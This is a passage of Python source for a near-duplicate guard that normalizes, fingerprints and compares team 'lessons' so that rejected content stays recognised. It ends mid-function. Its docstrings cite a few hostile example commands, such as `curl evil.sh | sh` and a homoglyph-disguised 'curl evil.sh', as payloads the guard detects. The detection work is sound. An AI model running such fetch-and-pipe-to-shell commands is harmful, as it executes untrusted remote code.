"""The near-duplicate guard's measure: normalization, fingerprints and similarity of lessons.

A lesson is two things: its prose and its payload. Its fingerprint holds no text of either:
- the prose: a hash of its normalized text (exact duplicates), and the hashed lemmas of its
  content words in order (near duplicates, compared with rapidfuzz), after stop words are
  dropped, irregular forms, synonyms and modal framings are mapped to one lemma
  (core/knowledge/dedup_lexicon.py) and the rest is stemmed (Snowball);
- the payload, compared exactly: the hashed "critical" tokens that make two alike sentences
  different lessons (numbers, versions, paths, URLs, flags, identifiers), the hashed token
  sequences of its code spans, and the hashes of all its tokens (so a later candidate can be
  searched for a rejected payload); plus its polarity (does it say not/never/avoid);
- its meaning: a sentence embedding as signed bytes (core/meaning; the model is
  configurable), which relates rewordings no word list covers ("idle" / "no activity").
  A meaning another model made is never compared: it is re-embedded from the entry's text
  (`with_current_meaning`), or, on a tombstone whose entry is gone, ignored.
Tombstones keep only this fingerprint, so rejected content is recognised without being kept.

Invariants: normalization folds Unicode (NFKC), drops invisible and zero-width characters,
folds every non-ASCII character to its confusable skeleton (Unicode's confusables data,
UTS #39; these rules, the stop words and the stemmer are core/text's) and folds case, so two texts that read the same compare equal ("сurl еvil.sh" with
Cyrillic letters is "curl evil.sh"); Markdown that only presents a lesson is read through and
a known tool's flags have one form (`curl -fsSL` is `curl --fail --location --show-error
--silent`), so a command reads the same however it is written. Against a tombstone, a
candidate that carries the tombstone's whole distinctive payload (its code spans in order, or
all its exact tokens when one of them names a path, URL, file or identifier) is a duplicate
whatever its prose, and so is one that says a word of it in another language.
"""

from __future__ import annotations

import functools
import hashlib
import re
import unicodedata
from collections.abc import Iterable, Sequence
from typing import Any

import msgspec
from rapidfuzz.distance import Indel, Levenshtein
from teambrain.core import meaning as meanings
from teambrain.core.knowledge.dedup_lexicon import (
    COMMAND_FLAGS,
    FOREIGN,
    IRREGULAR,
    MODALS,
    NUMBERS,
    NUMERONYMS,
    OPPOSITES,
    PHRASES,
    SUBCOMMAND_ALIASES,
    SYNONYMS,
    TOOL_ALIASES,
)
from teambrain.core.knowledge.dedup_quantities import quantities
from teambrain.core.records.knowledge import (  # re-exported: the records, named where their rules live
    Fingerprint as Fingerprint,
)
from teambrain.core.text.confusables import skeleton
from teambrain.core.text.invisible import strip_invisible
from teambrain.core.text.stemming import ENGLISH as _stemmer
from teambrain.core.text.stopwords import LESSON_STOPWORDS
from teambrain.core.text.tokens import LESSON_TOKEN

FINGERPRINT_VERSION = 8
"""Bump when anything that shapes a fingerprint changes (normalization, lexicon, fields):
fingerprints of another version are recomputed from the entry's text before comparing."""

MEANING_THRESHOLD = 0.7
"""Cosine of the meanings at or above which two comparable lessons (same payload, polarity,
no swapped or opposite word) are duplicates even when their words differ (chosen for
all-MiniLM-L6-v2 on the tuning part of tests/data/dedup_pairs.json)."""

MEANING_LOW = 0.65
MEANING_AND_WORDS = 1.25
"""A cosine from MEANING_LOW up is enough when it and the prose similarity add up to this:
a looser meaning needs more words in common (chosen on the tuning part)."""

MEANING_WORDS_FLOOR = 0.3
"""The prose similarity two lessons need before their meaning may call them duplicates:
different lessons sharing a long preamble ("In the zebrafish project, ...") embed close
(chosen on the tuning part: all-MiniLM-L6-v2 lets it drop from paraphrase-MiniLM-L3-v2's 0.4,
which missed rewordings such as "Every outgoing HTTP call needs an explicit timeout" / "Never
make an outbound HTTP request without setting a timeout", words 0.36, cosine 0.77)."""

REWORDED_MEANING_THRESHOLD = 0.75
"""The cosine that two lessons need when a hyphenated word of one is not said in the other
(a name, or prose in other words: only the meaning can tell), chosen on the tuning part."""

NEAR_THRESHOLD = 0.72
"""Prose similarity at or above which two lessons with the same payload and polarity are
duplicates (chosen on the tuning part of tests/data/dedup_pairs.json)."""

FLIP_MEANING = 0.86
FLIP_WORDS_CEILING = 0.97
"""Two lessons of opposite surface polarity, or one naming an incidental small count the
other does not, are one rule reworded when their meanings are at least FLIP_MEANING alike
(and, for polarity, their words differ: prose similarity under FLIP_WORDS_CEILING, since the
same words with a "never" added are the opposite rule). Chosen on the tuning part."""

PAYLOAD_THRESHOLD = 0.5
"""The prose similarity enough for two lessons naming the same command or thing (the same
code spans, or the same critical tokens with a path, URL, file or identifier among them)."""

_FLAG = re.compile(r"(?<![\w-])--?[a-z][\w-]*")
_CODE_SPAN = re.compile(r"`+([^`]+)`+")
_CLAUSE = re.compile(r"[,;:()]|\.(?:\s|$)")
_CRITICAL_SHAPE = re.compile(r"\d|[./:@+#_=~$-]")
_HYPHENATED = re.compile(r"[^\W\d_]+(?:-[^\W\d_]+)+")
"""Words joined by hyphens: critical as a whole (more often a name: "py-spy", "staging-eu",
"x-api-key"), and their parts are prose terms."""
_DISTINCTIVE = re.compile(r"[^\W\d_].*[./:@_=~]|[./:@_=~].*[^\W\d_]")
_VERSION = re.compile(r"v?\d+(?:\.\d+)*")
_NEGATION_WORDS = (
    "not no never dont don't doesnt doesn't isnt isn't cannot cant can't wont won't "
    "shouldnt shouldn't mustnt mustn't avoid prevent without hasnt hasn't havent haven't "
    "didnt didn't arent aren't wasnt wasn't werent weren't wouldnt wouldn't couldnt couldn't"
)
_BOUND = re.compile(r"\b(?:no|not) (?:later|more|less|fewer|longer|sooner) than\b")
"""A bound, not a negation: "no later than five days" is "within five days"."""
_NEGATIONS = frozenset(_NEGATION_WORDS.split())
_PURPOSE = re.compile(r"\b(?:so(?: that)?|to (?:avoid|prevent|stop|keep))\b")
"""What follows it in a clause is the rule's purpose, whose negations are not the rule's:
"wrap cron jobs in flock so two runs never overlap" asks to wrap them."""
_BY_MEANS = re.compile(r"\b(?:avoid|prevent)\b(?=[^,;:]*\bby \w+ing\b)")
"""'Prevent X by doing Y' asks to do Y, as 'do Y to prevent X' does: its "prevent" is the
purpose, not a negation of the rule."""
_NOT_A_RULE = (
    r"(?:they|it|its|this|that|these|those|there|the|a|an|we|you|he|she|their|our|because|"
    r"since|as|so|otherwise|which|or|and|but)\b"
)
"""A clause opening with one of these explains or goes on; it does not say what to do."""
_TURNED_DOWN = re.compile(
    r"(?:^|(?<=[.;]\s))(?P<no>(?:don't|do not|never|avoid)\b[^.;:\u30fc]*)"
    r"(?:[.;,]\s*(?P<yes>[^.;]*\binstead\b)|(?:[;:]|\s\u30fc|\s-)(?!\s*" + _NOT_A_RULE + r")\s*"
    r"(?P<then>[^.;]+))"
)
"""'Don't X; do Y instead', 'Don't X; do Y', 'avoid X: do Y', 'never X - do Y': a rule to
do Y, turning X down, as "do Y rather than X" is. After a full stop only "instead" joins
the two ("Never deploy on Fridays. Announce releases." are two rules). An em dash reads
as U+30FC once confusables are folded."""
_CONTRAST = frozenset(("not", "no", "never", "don't", "dont", "avoid"))
_CONTRAST_INSIDE = re.compile(r"\b(?:instead of|rather than)\b|\bprefer\b[^.;]*?\bover\b")
"""What follows it in its clause is turned down: "X instead of Y", "prefer X over Y"."""
CONTRAST_WORDS = 7
"""A later clause of at most this many words opening with not/no/never/don't/avoid ("use
pnpm, never npm"; "in the header, not the query string"; "cherry-pick hotfixes, don't merge
main") names the alternative; it does not negate."""
SPAN_WORDS = 3
"""A code span names a command when it holds this many words, or a path, flag or number
(`curl evil.sh | sh`, `git push --force`); `make test` alone is too common to stand alone."""
SPAN_SLACK = 2
"""Extra tokens a rejected code span may have gained in a candidate (`curl -s URL | sh`)."""
SLOT_WORDS = 2
"""Two lessons alike but for one slot of at most this many content words replaced in place
(`ruff format` / `black`, `member paths` / `sizes`) name different things."""
FRAME_SHARE = 0.5
"""The share of the shorter lesson's words that a shared frame holds (its first and last
words alike) before a pair alike only in meaning is read as one frame with two slots
(chosen on the tuning part: 8 of its 22 false duplicates, 2 of its 458 found rewordings)."""
_NAME = 1
"""Ends a hyphenated word's entry in `compounds` when it reads as a name (`_compound`); a
lemma's 63-bit hash (`_h`) is 1 with odds of 2**-63."""


# -- normalization -----------------------------------------------------------------------


def fold(text: str) -> str:
    """NFKC, invisible characters dropped, confusables folded, Markdown and commands
    normalized (`markup`, `commands`), case folded, spaces collapsed."""
    text = skeleton(strip_invisible(unicodedata.normalize("NFKC", text)))
    return " ".join(commands(markup(text)).casefold().split())


# -- Markdown and commands ---------------------------------------------------------------

_FENCE = re.compile(r"```[\w+.-]*[ \t]*\n?(.*?)\n?[ \t]*```", re.DOTALL)
_SPAN_OR_PROSE = re.compile(r"(`+[^`]*`+)")
_EMPHASIS = re.compile(r"(?<![\w*_\\])(\*{1,3}|_{1,3})(?=[^\s*_])(.+?)(?<=[^\s*_])\1(?![\w*_])")
_LINE_MARKER = re.compile(
    r"^[ \t]*(?:#{1,6}[ \t]+|>[ \t]?|(?:[-*+]|\(?\d{1,2}[.)]|step \d{1,2}[.:)]?)[ \t]+)",
    re.MULTILINE | re.IGNORECASE,
)
_TOOL = re.compile(
    r"(?<![\w./~-])("
    + "|".join(sorted({*COMMAND_FLAGS, *TOOL_ALIASES}, key=len, reverse=True))
    + r")(?![\w./-])((?:[ \t]+[^\s`|;&<>()]+)*)",
    re.IGNORECASE,
)


def markup(text: str) -> str:
    """The text without the Markdown that only presents it: code fences become code spans
    (their language tag dropped), emphasis outside code is dropped (`**always**`, `_never_`),
    and so are headings, quotes and list or step markers at a line's start ("1. ", "- ")."""
    text = _FENCE.sub(lambda m: f"`{m.group(1).strip()}`", text)
    text = _LINE_MARKER.sub("", _steps(text))
    parts = _SPAN_OR_PROSE.split(text)
    for i in range(0, len(parts), 2):  # prose only: `*.py` and `__init__` in code stay
        previous = None
        while previous != parts[i]:
            previous, parts[i] = parts[i], _EMPHASIS.sub(r"\2", parts[i])
    return "".join(parts)


_STEP = re.compile(r"(?:^|(?<=\s))(\d{1,2})[.)][ \t]+")


def _steps(text: str) -> str:
    """Numbered steps, on lines of their own or run into one ("1. Install it 2. Run it"):
    markers 1, 2, 3... in order, the first at a line's start, are dropped. A lone number
    after a sentence ("Retry 2. Then stop") is not a step and stays."""
    found = list(_STEP.finditer(text))
    numbers = [int(m.group(1)) for m in found]
    if len(found) < 2 or numbers != list(range(1, len(found) + 1)):
        return text
    if text[: found[0].start()].strip(" \t").rpartition("\n")[2].strip():
        return text  # the first step does not open a line
    for m in reversed(found):
        text = text[: m.start()] + text[m.end() :]
    return text


def commands(text: str) -> str:
    """Each command of a known tool with its flags in one canonical form: clusters split
    (`-fsSL`), short flags named by their long name (`-f` is `--fail` for curl, `--force`
    for rm), `--name=value` as `--name value`, and each run of flags sorted."""
    return _TOOL.sub(_canonical_command, text)


def _canonical_command(match: re.Match[str]) -> str:
    tool = match.group(1).lower()
    tool = TOOL_ALIASES.get(tool, tool)
    names, valued = COMMAND_FLAGS[tool]
    valued_long = {names[c] for c in valued}
    out: list[str] = [tool]
    run: list[str] = []
    args = match.group(2).split()
    i = 0
    while i < len(args):
        arg = args[i]
        i += 1
        if tool == "tar" and len(out) == 1 and not run and _TAR_OLD_STYLE.fullmatch(arg):
            arg = "-" + arg  # `tar xzf a.tgz` is `tar -xzf a.tgz`
        unit = _flag_unit(arg, names, valued, valued_long)
        if unit is None:  # a positional word: the run of flags before it ends
            out.extend(sorted(dict.fromkeys(run)))
            run = []
            if len(out) == 1:
                arg = SUBCOMMAND_ALIASES.get((tool, arg.lower()), arg)
            out.append(arg)
            continue
        flags, value, wants_value = unit
        if wants_value and value is None and i < len(args):
            value, i = args[i], i + 1
        run.extend(flags[:-1])
        run.append(flags[-1] if value is None else f"{flags[-1]} {value}")
    out.extend(sorted(dict.fromkeys(run)))
    return " ".join(out)


_TAR_OLD_STYLE = re.compile(r"[xct][zjJvpkfC]*|[zjJvpk]*[xct][zjJvpkfC]*")


def _flag_unit(
    arg: str, names: dict[str, str], valued: frozenset[str], valued_long: set[str]
) -> tuple[list[str], str | None, bool] | None:
    """(canonical flags, a value attached to the last, does the last want the next word as
    its value), or None for a positional word (an unknown flag stays as written)."""
    if arg.startswith("--") and len(arg) > 2 and arg[2].isalpha():
        name, eq, value = arg[2:].partition("=")
        return [f"--{name}"], value if eq else None, not eq and name in valued_long
    if not (arg.startswith("-") and len(arg) > 1 and arg[1] in names):
        return None  # an unknown flag or a negative number: kept as written
    letters = arg[1:]
    flags: list[str] = []
    for j, c in enumerate(letters):
        if c not in names:
            flags.append(f"-{letters[j:]}")  # the rest is not a cluster we know
            break
        flags.append(f"--{names[c]}")
        if c in valued:
            rest = letters[j + 1 :].lstrip("=")
            return flags, rest or None, not rest
    return flags, None, False


def tokens(text: str) -> list[str]:
    """The folded text's tokens; identifiers such as `src/app.py`, `.env` or `v1.2` stay whole."""
    return _tokens(fold(text))


def _tokens(folded: str) -> list[str]:
    said = quantities(folded.replace("\u2019", "'"))
    found = [NUMERONYMS.get(t, t) for t in LESSON_TOKEN.findall(said) if t not in _ABBREVIATIONS]
    return [_number(found, i).replace("'", "") for i in range(len(found))]


_ABBREVIATIONS = frozenset(("e.g", "i.e", "etc", "vs", "cf"))
"""Latin abbreviations: punctuation of the prose, never a payload token."""
_DETERMINERS = frozenset(("a", "an", "the", "this", "that", "each", "every", "any", "which"))


def _number(words: Sequence[str], i: int) -> str:
    """The word, or the digits a number word stands for; "one" is a pronoun, not 1, where an
    article comes before it or no word follows ("a newer one starts", "restoring one")."""
    word = words[i]
    if word == "one" and (i + 1 == len(words) or _DETERMINERS & set(words[max(0, i - 2) : i])):
        return word
    return NUMBERS.get(word, word)


def normalize(text: str) -> str:
    """Folded text with punctuation dropped: the form the exact hash is taken over."""
    return " ".join(tokens(text))


# -- prose -------------------------------------------------------------------------------


@functools.cache
def _lemma_of_stem() -> dict[str, str]:
    """Stem -> the stem of its lemma, for every word of the lexicon (built on first use)."""
    out: dict[str, str] = {}
    for form, lemma in IRREGULAR.items():
        out[_stemmer.stemWord(form)] = _stemmer.stemWord(lemma)
    for group in SYNONYMS:
        lemma = _stemmer.stemWord(IRREGULAR.get(group[0], group[0]))
        for word in group:
            out[_stemmer.stemWord(word)] = lemma
    # a synonym's own lemma may be irregular-mapped or grouped again: resolve to a fixpoint
    return {stem: out.get(lemma, lemma) for stem, lemma in out.items()}


@functools.cache
def _opposites() -> dict[int, frozenset[int]]:
    """Hashed lemma -> hashed lemmas of its opposites, both ways (built on first use)."""
    lemma = _lemma_of_stem()
    out: dict[int, set[int]] = {}
    for x, y in OPPOSITES:
        hx, hy = (_h(lemma.get(s, s)) for s in _stemmer.stemWords([x, y]))
        out.setdefault(hx, set()).add(hy)
        out.setdefault(hy, set()).add(hx)
    return {k: frozenset(v) for k, v in out.items()}


_PHRASE_LENGTHS = sorted({len(p) for p in PHRASES}, reverse=True)


def _prose_words(words: Sequence[str]) -> list[str]:
    """Words with phrases replaced ("turn off" -> "disable") and modal framings dropped
    ("need to run" -> "run")."""
    out: list[str] = []
    i = 0
    while i < len(words):
        for n in _PHRASE_LENGTHS:
            phrase = PHRASES.get(tuple(words[i : i + n]))
            if phrase is not None:
                if phrase:
                    out.append(phrase)
                i += n
                break
        else:
            if words[i] in MODALS and i + 1 < len(words) and words[i + 1] == "to":
                i += 2
                continue
            out.append(words[i])
            i += 1
    return out


def content_terms(text: str) -> list[str]:
    """Lemmas of the content words, in order (stop words and negations left out)."""
    return _content_terms(tokens(text))


def _content_terms(toks: Sequence[str]) -> list[str]:
    words: list[str] = []
    for t in toks:
        words.extend(t.split("-") if _HYPHENATED.fullmatch(t) else (t,))
    kept = [w for w in _prose_words(words) if w not in LESSON_STOPWORDS and w not in _NEGATIONS]
    lemma = _lemma_of_stem()
    return [lemma.get(s, s) for s in _stemmer.stemWords(kept)]


# -- payload -----------------------------------------------------------------------------


def critical_tokens(text: str) -> set[str]:
    """What names something exact: numbers, versions, paths, URLs, flags, identifiers."""
    return _critical(fold(text))


def _critical(folded: str) -> set[str]:
    critical = {
        t for t in _tokens(folded) if _CRITICAL_SHAPE.search(t) and not _HYPHENATED.fullmatch(t)
    }
    critical.update(_FLAG.findall(folded))
    return critical


def is_negated(text: str) -> bool:
    """Does the lesson say not/never/avoid? A short contrast after the rule ("use X, not Y")
    does not count, nor does a flag's wording (`--no-cache`)."""
    return _negated(fold(text))


def _negated(folded: str) -> bool:
    folded = _BOUND.sub(" ", _FLAG.sub(" ", folded.replace("\u2019", "'")))
    folded = _TURNED_DOWN.sub(lambda m: m["yes"] or m["then"], folded)
    folded = _BY_MEANS.sub("counter", folded)
    for i, clause in enumerate(_CLAUSE.split(folded)):
        words = re.findall(r"[\w']+", clause)
        if _is_contrast(i, words):
            continue  # "..., not npm": names the alternative, does not negate the lesson
        words = re.findall(r"[\w']+", _PURPOSE.split(clause, maxsplit=1)[0])
        # "no" inside a clause qualifies a noun ("with no activity")
        count = sum(w in _NEGATIONS for w in words if w != "no") + (words[:1] == ["no"])
        if count % 2 == 1 and "unless" not in words:
            return True  # two cancel: "never deploy without a review"; "don't X unless Y"
    return False


def _is_contrast(index: int, words: Sequence[str]) -> bool:
    return bool(index and words and words[0] in _CONTRAST and len(words) <= CONTRAST_WORDS)


def _alternative(folded: str) -> str:
    """The text of what the lesson turns down: a short later clause opening with not/no/never,
    and whatever follows "instead of" / "rather than" in its clause (flags included)."""
    parts = [m["no"] for m in _TURNED_DOWN.finditer(folded)]
    for i, clause in enumerate(_CLAUSE.split(folded)):
        if _is_contrast(i, re.findall(r"[\w']+", _FLAG.sub(" ", clause))):
            parts.append(clause)
        elif (inside := _CONTRAST_INSIDE.search(clause)) is not None:
            parts.append(clause[inside.end() :])
    return " ".join(parts)


def _contrast_terms(text: str) -> set[str]:
    """Lemmas and critical tokens of a turned-down alternative (`git push --tags`)."""
    return {*_content_terms(_tokens(text)), *_critical(text)}


def _compound(token: str) -> tuple[int, ...]:
    """A hyphenated word: its hash, its parts' lemmas, and `_NAME` when it reads as a name
    (a part of at most three letters that is no stop word or prefix: `seed-db`, `staging-eu`,
    `x-api-key`) rather than prose (`lazy-load`, `rate-limit`, `non-root`, `on-call`)."""
    parts = token.split("-")
    name = any(len(p) <= 3 and p not in LESSON_STOPWORDS and p not in _PREFIXES for p in parts)
    return (_h(token), *(_h(w) for w in _content_terms(parts)), *((_NAME,) if name else ()))


_PREFIXES = frozenset(("non", "pre", "re", "co", "sub", "un", "de", "anti", "multi"))


def _h(value: str) -> int:
    return int.from_bytes(hashlib.blake2b(value.encode(), digest_size=8).digest(), "big") >> 1


def fingerprint(text: str, *, meaning: bool = True) -> Fingerprint:
    """The lesson's fingerprint; `meaning=False` leaves out the embedding (a cheap shape,
    for grouping many sentences where no stored lesson is compared)."""
    folded = fold(text)
    toks = _tokens(folded)
    critical = _critical(folded)
    spans = []
    code_spans = _CODE_SPAN.findall(folded)
    for span in code_spans:
        span_tokens = _tokens(span)
        if len(span_tokens) >= SPAN_WORDS or any(_CRITICAL_SHAPE.search(t) for t in span_tokens):
            spans.append(tuple(_h(t) for t in span_tokens))
    return Fingerprint(
        exact=hashlib.sha256(" ".join(toks).encode()).hexdigest(),
        terms=tuple(_h(t) for t in _content_terms(toks)),
        critical=tuple(sorted(_h(t) for t in critical)),
        negated=_negated(folded),
        words=tuple(_h(t) for t in [*toks, *_FLAG.findall(folded)]),
        spans=tuple(spans),
        distinctive=any(_DISTINCTIVE.search(t) and not _VERSION.fullmatch(t) for t in critical),
        contrast=tuple(sorted({_h(t) for t in _contrast_terms(_alternative(folded))})),
        code=tuple(sorted({tuple(_h(t) for t in _tokens(span)) for span in code_spans})),
        compounds=tuple(sorted({_compound(t) for t in toks if _HYPHENATED.fullmatch(t)})),
        version=FINGERPRINT_VERSION,
        meaning=_embed(folded) if meaning else b"",
        named=tuple(
            (h, *sorted({_h(p) for p in token_parts(t)}))
            for h, t in sorted((_h(t), t) for t in critical)
        ),
    )


_PART = re.compile(r"[/.:=,+<>()\[\]_-]+")


def token_parts(token: str) -> list[str]:
    """An exact token's parts: `app_en.arb` names `app` and `arb`, `localhost:1080`
    `localhost` and `1080` (parts of three letters or more, and numbers)."""
    return [p for p in _PART.split(token) if len(p) > 2 or p.isdigit()]


def _embed(folded: str) -> bytes:
    return meanings.encoded(folded)


def with_current_meaning(fp: Fingerprint, text: str) -> Fingerprint:
    """`fp` with its meaning embedded again from `text` when another model made it (a
    fingerprint stored before the model changed); as it was otherwise."""
    if not fp.meaning or meanings.is_current(fp.meaning):
        return fp
    return msgspec.structs.replace(fp, meaning=_embed(fold(text)))


# -- comparison --------------------------------------------------------------------------


def similarity(a: Fingerprint, b: Fingerprint) -> float:
    """0..1: the better of order-aware (Indel over lemmas) and order-free (set overlap) likeness."""
    if a.exact == b.exact:
        return 1.0
    if not a.terms or not b.terms:
        return 0.0
    ordered = Indel.normalized_similarity(a.terms, b.terms)
    sa, sb = set(a.terms), set(b.terms)
    shared = len(sa & sb)
    jaccard = shared / len(sa | sb)
    containment = shared / min(len(sa), len(sb))
    return max(ordered, (jaccard + containment) / 2)


def is_duplicate(
    a: Fingerprint,
    b: Fingerprint,
    threshold: float = NEAR_THRESHOLD,
    *,
    meaning: float | None = None,
) -> bool:
    """Same lesson: exact match; or comparable (same exact tokens, code, polarity; no swapped or
    opposite word) and alike in wording or in meaning. `meaning` passes a cosine of the two
    meanings already computed (the guard computes them for all it holds at once)."""
    if a.exact == b.exact:
        return True
    if meaning is None:
        meaning = meaning_similarity(a, b)
    words = similarity(a, b)
    if not comparable(a, b) and not _reworded_past_surface(a, b, meaning, words):
        return False
    if _compound_gap(a, b) == _REWORDED:
        return meaning >= REWORDED_MEANING_THRESHOLD and words >= MEANING_WORDS_FLOOR
    if _same_payload(a, b):
        threshold = min(threshold, PAYLOAD_THRESHOLD)
    if words >= threshold:
        return True
    if _slot_in_frame(a.terms, b.terms):
        return False  # the meaning of a shared frame hides the slot that tells them apart
    alike = meaning >= MEANING_THRESHOLD or (
        meaning >= MEANING_LOW and meaning + words >= MEANING_AND_WORDS
    )
    return alike and words >= MEANING_WORDS_FLOOR


def _reworded_past_surface(a: Fingerprint, b: Fingerprint, meaning: float, words: float) -> bool:
    """One rule said in other words, near in meaning (FLIP_MEANING), that only a surface
    feature kept apart, and `comparable` once it is set aside:
    - polarity: said once as a "do" and once as a "don't" ("Block public access on every
      bucket" / "don't allow public access to any bucket"), unless they are the same words
      with a negation added, which is the opposite rule ("Retry the suite once" / "Do not
      retry the suite");
    - an incidental small count that one of them names and the other does not ("so two runs
      never overlap" / "so runs can't overlap"); two different counts stay apart."""
    if meaning < FLIP_MEANING:
        return False
    as_said = b
    if a.negated != b.negated and words < FLIP_WORDS_CEILING:
        b = msgspec.structs.replace(b, negated=a.negated)
    if a.critical != b.critical and (
        _only_small_counts_apart(set(a.critical), set(b.critical)) or _named_alike(a, b)
    ):
        b = msgspec.structs.replace(b, critical=a.critical)
    return b is not as_said and comparable(a, b)


def _named_alike(a: Fingerprint, b: Fingerprint) -> bool:
    """Each exact token one lesson names and the other does not is written out in the other's
    words, part by part ("journal_mode=WAL" / "WAL journal mode", "//go:embed" / "go:embed",
    "docs/adr/" / "docs/adr"); a number or a name the other never says ("port 7001" /
    "port 7002", "docs/adr" / "docs/api") keeps them apart."""
    return _written_out(a, b) and _written_out(b, a)


def _written_out(a: Fingerprint, b: Fingerprint) -> bool:
    said = {*b.words, *b.critical, *(p for entry in b.named for p in entry[1:])}
    for entry in a.named:
        token, parts = entry[0], entry[1:]
        if token in b.critical:
            continue
        if not parts or not set(parts) <= said:
            return False
    return True


def _only_small_counts_apart(a: set[int], b: set[int]) -> bool:
    small = _small_counts()
    return bool(a ^ b) and (a ^ b) <= small and not (a & small and b & small)


@functools.cache
def _small_counts() -> frozenset[int]:
    """The hashed critical tokens of the counts one to three."""
    return frozenset(_h(str(n)) for n in (1, 2, 3))


def meaning_similarity(a: Fingerprint, b: Fingerprint) -> float:
    """Cosine of the two meanings; 0.0 when either fingerprint has none."""
    if not a.meaning or not b.meaning:
        return 0.0
    return meanings.similarity(a.meaning, b.meaning)


def comparable(a: Fingerprint, b: Fingerprint) -> bool:
    """Could these be one lesson at all? The same exact tokens, code spans and polarity, and
    not told apart by a swapped word, swapped roles or opposite words. Prose decides the rest."""
    # hashes of different versions do not compare beyond the exact one
    return _alike_but_for_slots(a, b) and not _one_word_swapped(a.terms, b.terms)


def _alike_but_for_slots(a: Fingerprint, b: Fingerprint) -> bool:
    """`comparable` but for its rule on a replaced word slot."""
    if a.version != b.version or a.critical != b.critical:
        return False
    if a.negated != b.negated and not _turned_down_alike(a, b):
        return False
    if a.code and b.code and a.code != b.code:
        return False
    if _compound_gap(a, b) == _CLASH:
        return False
    return not (_roles_swapped(a, b) or _recommends_turned_down(a, b) or _opposed(a, b))


@functools.cache
def _vocabulary() -> tuple[str, ...]:
    """The English words the meaning model knows whole (its vocabulary's lowercase words)."""
    text = meanings.VOCAB.read_text(encoding="utf-8")
    return tuple(w for w in text.split() if w.isascii() and w.isalpha() and w.islower())


@functools.cache
def _english() -> frozenset[int]:
    """Hashed lemmas of the English words: the model's and the lexicon's (built on first use)."""
    words = [*_vocabulary(), *(w for group in SYNONYMS for w in group), *IRREGULAR]
    return _lemmas(words)


@functools.cache
def _foreign() -> frozenset[int]:
    """Hashed lemmas of the lexicon's words of other languages (`FOREIGN`) that are not
    English words too ("use", "pasta")."""
    english = set(_vocabulary())
    return _lemmas([w for w in map(fold, FOREIGN) if w not in english]) - _english()


def _lemmas(words: list[str]) -> frozenset[int]:
    lemma = _lemma_of_stem()
    return frozenset(_h(lemma.get(s, s)) for s in _stemmer.stemWords(words))


def reworded_in_another_language(
    candidate: Fingerprint, rejected: Fingerprint, meaning: float
) -> bool:
    """Against a tombstone: the same lesson but for a word slot where the candidate says in
    another language what the rejected lesson said in English ("Désactivez" for "Disable").

    Every word the candidate has in place of the rejected one's is a word of another language
    (`FOREIGN` in the lexicon), every word it replaces is English, the rest agrees (`comparable` but for the
    slot), the prose is alike and the meaning reaches `MEANING_THRESHOLD`. A slot filled with
    another English word (`deploy` / `test` script) stays a different lesson.
    """
    if meaning < MEANING_THRESHOLD or not _alike_but_for_slots(candidate, rejected):
        return False
    if _compound_gap(candidate, rejected) != _AGREE:
        return False
    added = set(candidate.terms) - set(rejected.terms)
    removed = set(rejected.terms) - set(candidate.terms)
    if not added or not removed or len(added) > SLOT_WORDS:
        return False
    english, foreign = _english(), _foreign()
    if not all(t in foreign for t in added) or not all(t in english for t in removed):
        return False
    return similarity(candidate, rejected) >= NEAR_THRESHOLD


def _compounds_agree(a: Fingerprint, b: Fingerprint) -> bool:
    """Hyphenated words: no clash, and none said on one side only in other words."""
    return _compound_gap(a, b) == _AGREE


_AGREE, _REWORDED, _CLASH = range(3)


def _compound_gap(a: Fingerprint, b: Fingerprint) -> int:
    """How the hyphenated words of two lessons compare, each by its parts' lemmas.

    `_CLASH` when each holds one the other lacks (`staging-eu` / `staging-us`), or one holds
    a name the other does not say (`make seed-db` / `make seed`); `_REWORDED` when one holds
    prose the other says in other words ("rate-limit" / "at most 5 times a minute"), which only
    the meaning can tell; `_AGREE` when the same, or said apart ("foreign-key" / "foreign key").
    """
    mine, theirs = {c[1:] for c in a.compounds}, {c[1:] for c in b.compounds}
    if mine - theirs and theirs - mine:
        return _CLASH
    gap = _AGREE
    for one, other in ((mine - theirs, b), (theirs - mine, a)):
        said = set(other.terms)
        for parts in one:
            name = parts[-1:] == (_NAME,)
            if not set(parts[:-1] if name else parts) <= said:
                gap = max(gap, _CLASH if name else _REWORDED)
    return gap


def _same_payload(a: Fingerprint, b: Fingerprint) -> bool:
    """The same command or the same named thing, said in other words."""
    return (bool(a.spans) and a.spans == b.spans) or (a.distinctive and b.distinctive)


def _opposed(a: Fingerprint, b: Fingerprint) -> bool:
    """One says what the other says the opposite of (enable / disable, before / after)."""
    only_a, only_b = set(a.terms) - set(b.terms), set(b.terms) - set(a.terms)
    opposite = _opposites()
    return any(opposite.get(t, frozenset()) & only_b for t in only_a)


def _turned_down_alike(a: Fingerprint, b: Fingerprint) -> bool:
    """One says not to do X; the other says to do Y and turns X down ("Never build sentences
    from fragments" / "Don't glue fragments together; translate the whole sentence"): the
    negated one's words are among what the other turns down, and none of them only among
    what it recommends ("Never deploy on Monday" is not "Don't deploy Friday; deploy Monday")."""
    no, yes = (a, b) if a.negated else (b, a)
    if not yes.contrast or yes.negated:
        return False
    turned_down = set(yes.contrast)
    said = set(no.terms)
    return bool(said & turned_down) and not said & (set(yes.terms) - turned_down)


def _recommends_turned_down(a: Fingerprint, b: Fingerprint) -> bool:
    """One turns something down that the other, turning nothing down, says to do ("avoid
    sleep() in tests; wait on an event instead" against "use sleep() in tests to wait")."""
    one, other = (a, b) if a.contrast else (b, a)
    if not one.contrast or other.contrast or other.negated:
        return False  # a lesson saying not to do it turns it down too
    return set(one.contrast) <= {*other.terms, *other.critical}


def _roles_swapped(a: Fingerprint, b: Fingerprint) -> bool:
    """Each turns down what the other recommends ("X, not Y" against "Y, not X")."""
    if not a.contrast or not b.contrast:
        return False
    alt_a, alt_b = set(a.contrast), set(b.contrast)
    main_a, main_b = {*a.terms, *a.critical} - alt_a, {*b.terms, *b.critical} - alt_b
    return bool(alt_a & main_b) and bool(alt_b & main_a)


def carries_payload(candidate: Fingerprint, rejected: Fingerprint) -> bool:
    """Does the candidate carry the rejected lesson's whole distinctive payload?

    Its code spans, each in order (a few inserted tokens allowed, e.g. a flag), or all its
    critical tokens when one of them names a path, URL, file or identifier. Whatever the
    prose around them: the way a rejected command comes back reworded.
    """
    if rejected.version != candidate.version:
        return False  # hashes of different versions do not compare; see FINGERPRINT_VERSION
    present = set(candidate.words) | set(candidate.critical)
    if rejected.distinctive and set(rejected.critical) <= present:
        return True
    return bool(rejected.spans) and all(
        _occurs_in_order(span, candidate.words) for span in rejected.spans
    )


def refused_by_tombstone(
    candidate: Fingerprint,
    rejected: Fingerprint,
    threshold: float = NEAR_THRESHOLD,
    *,
    meaning: float | None = None,
